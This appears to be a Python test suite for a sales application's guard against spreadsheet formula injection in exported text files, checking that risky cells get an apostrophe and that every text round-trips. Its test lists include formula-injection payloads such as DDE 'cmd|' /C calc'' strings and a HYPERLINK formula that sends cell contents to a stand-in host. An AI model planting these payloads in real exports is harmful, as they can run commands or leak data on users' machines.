"""Text files hold nothing a spreadsheet calculates, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from salesdesk.domain.formulas import guarded, unguarded

BARE = [
    "", " ", "Anna", "Anna =1", "O'Brien", "'t Hooft", "'quoted'", "a-b@c.example", "x=1", "1-1", "3E5", "1/2", "007",
    # numbers with a sign
    "-5", "+5", "-12.5", "-1,234.56", "-1.234,56", "-1 234,50", "-5%", "-5 %", "-3E5", "-1.5e-3", "-€5", "-$5.00",
    "-5 €", "-1500.50 EUR", "-EUR 5", "−5", "- 5", " -5", "-1'234.50",
    # telephone numbers
    "+4930123456", "+49 30 123456", "+49 30 123-45", "+49 30 123-45 (0) ext", "+49 (0)30 123-45", "+49 (30) 123-45",
    "+1 (555) 123-4567", "+1 555 123-4567 ext. 12", "+1 555 123 4567 x12", "+49 30/12345", "+49 30 12345 Durchwahl 7",
    "+44 20.7946.0018", "+49.30.12345", "+49301234567;ext=12", "+49 30 123456, 17", "030/123-45", "(030) 123",
    # lists of notes
    "Called.\n- call back\n- send the offer", "Ask:\r\n+ price\r\n- date",
    # the mark the file is written with needs none: the cell stands in quotes
    "Berlin, -Mitte", "a,=1",
]  # fmt: skip

CALCULATED = [
    "=1+1", "=", "-1-1", "+1/0", "-(1)", "+(49)30", "+49-30-123", "+49/30/123", "+49 - 30", "-1*2", "+1^2", "-A1", "-ABC5",
    "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "@here", "- call back", "+49 30 123|calc'!A0", "-5+cmd|' /C calc'!A0",
    "|calc", "\tx", "\rx", "\nx", "\t=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u2060 \u200e-1-1",
    "＝1+1", "＋1+1", "－1－1", "＠SUM(A1)", "﹦1", "−1−1", ";=1", ",=1", "||=1", "; ;@x", "\n\n=1", '="0123"',
    '=HYPERLINK("http://x.example?"&A1;"x")', "+" + "1" * 61, "+49 30 " + "1" * 80 + "z",
]  # fmt: skip

INSIDE = [
    ("a;=1", "a;'=1"),
    ("a|=1", "a|'=1"),
    ("a\t=1", "a\t'=1"),
    ("a\n=1", "a\n'=1"),
    ("a\r\n=1;b", "a\r\n'=1;b"),
    ("a; =1", "a;' =1"),
    ("a;\u200b@x", "a;'\u200b@x"),
    ("a;-5;-1-1", "a;-5;'-1-1"),
    ("a\n- cmd|'/C calc'!A0", "a\n'- cmd|'/C calc'!A0"),
    ("a\n-1-1", "a\n'-1-1"),
    ("a;＝1", "a;'＝1"),
    ("a,=1;=2", "a,=1;'=2"),
]


@pytest.mark.parametrize("text", BARE)
def test_what_is_not_calculated_stays_bare(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("text", CALCULATED)
def test_what_would_be_calculated_begins_with_an_apostrophe(text: str) -> None:
    assert guarded(text)[0] == "'"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(("text", "shown"), INSIDE)
def test_what_becomes_the_start_of_a_cell_elsewhere_is_guarded_where_it_stands(text: str, shown: str) -> None:
    assert guarded(text) == shown
    assert unguarded(shown) == text


def test_the_mark_of_the_file_itself_splits_nothing() -> None:
    assert guarded("a;=1,=2", ";") == "a;=1,'=2"
    assert unguarded("a;=1,'=2") == "a;=1,=2"


@pytest.mark.parametrize(
    "text", ["'=1+1", "''=1", "'-5", "'+49 30 1", "'|x", "a;'=1", "a,'=1", "'=1;'=2", "';=1", "'\t"]
)
def test_an_apostrophe_of_ones_own_comes_back(text: str) -> None:
    assert guarded(text) != text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ("'+49 30 1", "+49 30 1"),
        ("'-5", "-5"),
        ("'=1+1", "=1+1"),
        ("'@x", "@x"),
        ("'a", "'a"),
        ("'", "'"),
        ("''", "''"),
        ("'s-Hertogenbosch", "'s-Hertogenbosch"),
        ("'n' roll; 'n' fun", "'n' roll; 'n' fun"),
        ("a '-5'", "a '-5'"),
    ],
)
def test_guards_of_other_programs_come_off_and_their_texts_stay(cell: str, text: str) -> None:
    assert unguarded(cell) == text


RISKY = st.text(st.sampled_from("'=+-@;,|\t\r\n \u00a0\u200b＝0123456789()ab/.\"!%"), max_size=14)
ANY = st.one_of(st.text(), RISKY)


@given(ANY, st.sampled_from(",;\t|"))
def test_every_text_comes_back(text: str, delimiter: str) -> None:
    assert unguarded(guarded(text, delimiter)) == text


@given(ANY)
def test_no_more_than_apostrophes_are_added(text: str) -> None:
    rest = iter(guarded(text))
    assert all(char in rest for char in text)
    assert len(guarded(text)) - len(text) == guarded(text).count("'") - text.count("'")


PLAIN = re.compile(
    r"[+\-−]\s?(?:[€$£¥₹]\s?|[A-Z]{3}\s)?\d[\d.,'’\s]*(?:[eE][+-]?\d+)?\s?(?:%|[€$£¥₹]|[A-Z]{3})?\s*"
)


def is_calculated(cell: str) -> bool:
    """A spreadsheet's view of a cell, told another way than in the program."""
    text = cell.strip().strip("\u200b\ufeff").strip()
    if text[:1] not in tuple("=+-@＝") or not text:
        return False
    phone = text[0] == "+" and re.search(r"[\d)]\s+[\d(]", text) and not re.search(r"[^\d()./\s+-]", text)
    item = re.match(r"[-+] +[a-z]", text)
    return not (PLAIN.fullmatch(text) or phone or item)


@given(RISKY, RISKY, st.sampled_from(";\t|"))
def test_no_cell_is_calculated_whatever_a_reader_splits_at(one: str, other: str, split: str) -> None:
    text = io.StringIO()
    csv.writer(text).writerow([guarded("first"), guarded(one), guarded(other)])
    for line in re.split(r"[\r\n]", text.getvalue()):
        for cell in line.split(split)[1:]:
            assert not is_calculated(cell.split('"')[0]), (one, other)
    (record,) = csv.reader(io.StringIO(text.getvalue(), newline=""))
    assert not any(is_calculated(cell) for cell in record)


@pytest.mark.parametrize(
    "unit", ["\n", "; ", "'", "\u200b", "+1 ", "\n- a ", "a;=", " ", "-1", "+49 ", "('", ";'"]
)
def test_the_work_grows_with_the_length_alone(unit: str) -> None:
    from time import process_time

    def cost(count: int) -> float:
        text = unit * (count // len(unit))
        best = 9.0
        for _ in range(3):
            begun = process_time()
            unguarded(guarded(text + "z"))
            best = min(best, process_time() - begun)
        return best

    assert cost(120_000) < max(
        0.01, 20 * cost(15_000)
    )  # eight times the length; squared it would be 64 times the work
